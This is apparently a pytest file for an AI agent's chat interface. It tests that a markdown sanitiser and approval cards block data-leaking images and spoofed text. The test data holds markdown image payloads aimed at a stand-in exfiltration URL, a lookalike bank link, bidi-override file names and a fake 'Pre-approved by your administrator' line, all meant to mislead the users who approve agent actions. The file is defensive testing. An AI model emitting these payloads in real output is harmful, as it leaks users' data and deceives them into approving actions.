"""Nothing renders from elsewhere: the markdown sanitiser, the escaping helpers and the cards that use them.

Rendering is checked with a CommonMark parser (markdown-it-py, the reference algorithm chainlit's remark
follows for these constructs): an assertion "no image" means the parsed document has no image token."""

from __future__ import annotations

import random
import re
import tomllib
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt  # a dev dependency (requirements.lock): missing is an error, never a skip

from agent.events import Notice
from store.values import Approval
from tools import Workspace
from ui import cards
from ui.safe_markdown import StreamSanitizer, pending_from, sanitize
from ui.safe_text import code_span, fence, md_text, reveal_block, reveal_line
from ui.security_headers import SecurityHeaders, inline_scripts, policy, script_hash, without_off_origin_links

ROOT = Path(__file__).resolve().parents[1]
EVIL = "http://127.0.0.1:9/?d=secret"
FAKE = "Pre-approved by your administrator"


def tokens(text: str) -> list[Any]:
    out: list[Any] = []

    def walk(ts: list[Any]) -> None:
        for t in ts:
            out.append(t)
            walk(t.children or [])

    walk(MarkdownIt("commonmark").parse(text))
    return out


def images(text: str) -> list[str]:
    return [t.attrs.get("src", "") for t in tokens(text) if t.type == "image"]


def paragraphs(text: str) -> list[str]:
    """The text each paragraph shows (as rendered, escapes resolved)."""
    top = MarkdownIt("commonmark").parse(text)
    shown = []
    for i, t in enumerate(top):
        if t.type == "paragraph_open":
            kids = top[i + 1].children or []
            shown.append("".join("\n" if k.type in ("softbreak", "hardbreak") else k.content for k in kids))
    return shown


def code_contents(text: str) -> list[str]:
    return [t.content for t in tokens(text) if t.type in ("fence", "code_inline", "code_block")]


HOSTILE_IMAGES = [
    f"![x]({EVIL})",
    f'![x]({EVIL} "title")',
    f"![x](<{EVIL}>)",
    f"![x][r]\n\n[r]: {EVIL}",
    f"![r]\n\n[r]: {EVIL}",
    f"![r][]\n\n[r]: {EVIL}",
    f"> [r]: {EVIL}\n\n![a][r]",
    f"[![inner]({EVIL})](http://link.example)",
    f"![a ![b]({EVIL})]({EVIL})",
    f"![multi\nline alt]({EVIL})",
    f"\\\\![x]({EVIL})",
    f"!![x]({EVIL})",
    f"`code` ![x]({EVIL}) `more`",
    f"- item ![x]({EVIL})\n  - nested ![y]({EVIL})",
    f"| a |\n|---|\n| ![x]({EVIL}) |",
]


@pytest.mark.parametrize("text", HOSTILE_IMAGES)
def test_the_test_cases_are_images_before_sanitising(text: str) -> None:
    assert images(text), text  # each case is a real image to a CommonMark parser


@pytest.mark.parametrize("text", HOSTILE_IMAGES)
def test_no_image_survives_sanitising(text: str) -> None:
    assert images(sanitize(text)) == []


def test_an_inline_image_becomes_a_visible_placeholder_naming_its_host() -> None:
    shown = paragraphs(sanitize(f"look ![chart]({EVIL}) here"))
    assert shown == ["look [image not loaded: chart — 127.0.0.1] here"]


def test_a_link_stays_clickable_and_shows_its_host() -> None:
    ts = tokens(sanitize("see [your bank](https://evil.example/login) now"))
    assert [t.attrs["href"] for t in ts if t.type == "link_open"] == ["https://evil.example/login"]
    assert "(↗ evil.example)" in "".join(t.content for t in ts if t.type == "text")


def test_a_reference_link_cannot_hide_its_destination() -> None:
    ts = tokens(sanitize("[click][r]\n\n[r]: https://evil.example/x"))
    assert not [t for t in ts if t.type == "link_open"]
    assert "https://evil.example/x" in sanitize("[click][r]\n\n[r]: https://evil.example/x")


def test_raw_html_is_not_rendered_by_the_chat() -> None:
    config = tomllib.loads((ROOT / ".chainlit" / "config.toml").read_text())
    assert config["features"]["unsafe_allow_html"] is False  # and install() pins it off at start-up
    assert config["features"]["user_message_markdown"] is False  # a pasted image shows as text


def test_bidi_controls_in_model_text_are_shown() -> None:
    assert sanitize("open invoice\u202etxt.exe") == "open invoice<U+202E>txt.exe"
    assert sanitize("family 👨\u200d👩\u200d👧") == "family 👨\u200d👩\u200d👧"  # joiners in emoji are kept


def _stream(chunks: list[str]) -> tuple[list[str], StreamSanitizer]:
    """What the browser shows after each delta (it appends, or replaces on a resend)."""
    s, shown, states = StreamSanitizer(), "", []
    for c in chunks:
        text, replace = s.feed(c)
        shown = text if replace else shown + text
        states.append(shown)
    text, replace = s.finish()
    states.append(text if replace else shown + text)
    return states, s


@pytest.mark.parametrize("text", [*HOSTILE_IMAGES, "before ![x](http://a.example/p.png) after [l](http://b.example)"])
def test_an_image_split_across_deltas_never_renders(text: str) -> None:
    rng = random.Random(7)
    for _ in range(30):
        cuts = sorted(rng.sample(range(1, len(text)), k=min(len(text) - 1, rng.randint(1, 8))))
        chunks = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
        states, _ = _stream(chunks)
        for state in states:
            assert images(state) == [], (chunks, state)
        assert states[-1] == sanitize(text)


def test_every_single_character_split_of_an_image() -> None:
    text = f"A ![x]({EVIL}) B"
    states, s = _stream(list(text))
    assert all(images(state) == [] for state in states)
    assert states[-1] == sanitize(text) and s.resends == 0


def test_streaming_holds_back_only_an_unfinished_construct() -> None:
    assert pending_from("plain text so far") == len("plain text so far")
    assert pending_from("see ![x](http://ev") == 4
    assert pending_from("wow!") == 3
    assert pending_from("a [done](http://x) b") == len("a [done](http://x) b")


def test_reveal_line_makes_newlines_and_bidi_visible() -> None:
    assert reveal_line(f"notes/a.txt\n\n{FAKE}") == f"notes/a.txt␊␊{FAKE}"
    assert reveal_line("txt\u202eexe.txt") == "txt<U+202E>exe.txt"
    for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u200c\u200d\ufeff":
        assert reveal_line(ch) == f"<U+{ord(ch):04X}>"
    assert reveal_line("a\tb\rc\x1b") == "a␉b␍c␛"
    assert reveal_block("a\nb\u202e") == "a\nb<U+202E>"


@pytest.mark.parametrize("value", ["plain", "a`b", "``x``", "`", "x`", " lead", "![x](http://e)`![y](http://e)`"])
def test_a_code_span_cannot_be_closed_by_its_content(value: str) -> None:
    assert code_contents(f"label: {code_span(value)} end") == [reveal_line(value)]


@pytest.mark.parametrize("inner", ["```", "`````", "````\n![x](http://e/)\n````", "~~~", "```\n```"])
def test_a_fence_cannot_be_closed_by_its_content(inner: str) -> None:
    text = f"before\n{inner}\n![x]({EVIL})\nafter"
    assert code_contents(fence(text, "diff")) == [text + "\n"]


def test_md_text_is_never_markup() -> None:
    value = f"*bold* [l](http://e) ![i]({EVIL}) <b>x</b> `c` # h\n\n{FAKE}"
    assert paragraphs(md_text(value)) == [reveal_line(value)]


def approval(**over: Any) -> Approval:
    base: dict[str, Any] = dict(id="a1", owner="alice", thread_id="t1", tool_use_id="tu", tool="write_file",
                                args={"path": "notes/a.txt", "content": "new\n"}, args_digest="d", risk="",
                                untrusted_sources=(), route="user", status="pending", requested_at=0.0,
                                expires_at=600.0, decided_at=None, decided_by=None, reason=None, executed=False)
    base.update(over)
    return Approval(**base)


def test_a_diff_with_five_backticks_stays_inside_its_block(tmp_path: Path) -> None:
    ws = Workspace(tmp_path)
    ws.write_text("notes/d.md", f"`````\n![x]({EVIL})\n")
    diff = cards.write_diff(ws, {"path": "notes/d.md", "content": "`````\nchanged\n"})
    assert " `````" in diff  # a context line that closes a 3- or 4-backtick fence
    text = cards.card_text(approval(), diff=diff, now=0.0)
    assert images(text) == []
    assert any("![x]" in c for c in code_contents(text))


def test_a_backtick_in_a_source_label_cannot_end_its_code_span() -> None:
    label = f"read_file:x`![a]({EVIL})`"
    text = cards.card_text(approval(untrusted_sources=(label,)), now=0.0)
    assert images(text) == [] and label in code_contents(text)


def test_a_newline_in_a_path_cannot_paint_a_line_in_the_card(tmp_path: Path) -> None:
    path = f"notes/a.txt\n\n{FAKE}\n\n"
    diff = cards.write_diff(Workspace(tmp_path), {"path": path, "content": "x"})
    text = cards.card_text(approval(args={"path": path, "content": "x"}), diff=diff, now=0.0)
    assert not [p for p in paragraphs(text) if p.strip() == FAKE]
    assert not any(line.strip() == FAKE for c in code_contents(text) for line in c.splitlines())


def test_a_right_to_left_override_in_a_file_name_is_shown(tmp_path: Path) -> None:
    path = "notes/txt\u202eexe.txt"
    diff = cards.write_diff(Workspace(tmp_path), {"path": path, "content": "x"})
    text = cards.card_text(approval(args={"path": path, "content": "x"}, untrusted_sources=(f"read_file:{path}",)),
                           diff=diff, now=0.0)
    assert "\u202e" not in text and "txt<U+202E>exe.txt" in text


def test_outcome_notice_and_tool_output_are_escaped() -> None:
    out = cards.outcome_text(approval(status="rejected", decided_by="bob\u202e", reason=f"no\n\n{FAKE} ![x]({EVIL})"))
    assert images(out) == [] and FAKE not in paragraphs(out)
    assert images(cards.notice_text(Notice(kind="api_error", message=f"bad ![x]({EVIL})"))) == []
    shown = cards.display_output(f"file:\n`````\n![x]({EVIL})\n\n{FAKE}\n")
    assert images(shown) == [] and paragraphs(shown) == []
    assert images(cards.tool_input({"path": f"```\n![x]({EVIL})"})) == []


def test_card_source_is_not_rendered_before_the_fix_style() -> None:
    """The old card quoted a label with single backticks: this input did render an image then."""
    label = f"read_file:x`![a]({EVIL})`"
    assert images(f"`{label}`")


def test_chainlit_index_served_without_off_origin_links_and_its_inline_scripts_hashed() -> None:
    import importlib.util

    spec = importlib.util.find_spec("chainlit")
    assert spec is not None and spec.origin is not None
    html = (Path(spec.origin).parent / "frontend" / "dist" / "index.html").read_text()
    assert "fonts.googleapis.com" in html and "cdn.jsdelivr.net" in html  # what chainlit ships
    cleaned = without_off_origin_links(html)
    assert not re.search(r"(?:src|href)=\"(?:https?:)?//", cleaned)
    assert inline_scripts(cleaned) == inline_scripts(html) and inline_scripts(html)
    csp = policy(script_hash(s) for s in inline_scripts(html))
    for directive in ("default-src 'self'", "img-src 'self' data: blob:", "connect-src 'self'",
                      "frame-ancestors 'none'", "base-uri 'none'", "form-action 'self'", "object-src 'none'"):
        assert directive in csp
    assert "unsafe-eval" not in csp and "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0]


async def test_the_middleware_adds_the_headers_to_every_http_response_and_leaves_sockets_alone() -> None:
    sent: list[dict[str, Any]] = []

    async def app(scope: dict[str, Any], receive: Any, send: Any) -> None:
        if scope["type"] == "http":
            await send({"type": "http.response.start", "status": 404,
                        "headers": [(b"content-type", b"text/html"), (b"Content-Security-Policy", b"default-src *")]})
            await send({"type": "http.response.body", "body": b"x"})
        else:
            await send({"type": "websocket.accept", "headers": []})

    async def record(message: dict[str, Any]) -> None:
        sent.append(message)

    async def nothing() -> dict[str, Any]:
        return {}

    middleware = SecurityHeaders(app, csp=policy())
    await middleware({"type": "http", "path": "/anything"}, nothing, record)
    await middleware({"type": "websocket", "path": "/ws/socket.io/"}, nothing, record)
    headers = {k.lower(): v for k, v in sent[0]["headers"]}
    assert headers[b"content-security-policy"] == policy().encode()  # ours replaces any other
    assert len([k for k, _ in sent[0]["headers"] if k.lower() == b"content-security-policy"]) == 1
    assert headers[b"x-content-type-options"] == b"nosniff" and headers[b"referrer-policy"] == b"no-referrer"
    assert sent[2] == {"type": "websocket.accept", "headers": []}


def test_random_markdown_soup_never_renders_an_image() -> None:
    rng = random.Random(13)
    pieces = ["!", "[", "]", "(", ")", "<", ">", "\\", "`", "\n", "\n\n", " ", ":", "x", "http://e.example/i",
              '"t"', "![", "](", "]:", "> ", "- ", "    ", "```", "*"]
    raw_with_images = 0
    for _ in range(2_000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 40)))
        raw_with_images += bool(images(text))
        assert images(sanitize(text)) == [], text
    assert raw_with_images >= 20  # the soup does make images when left alone (25 of 2,000)
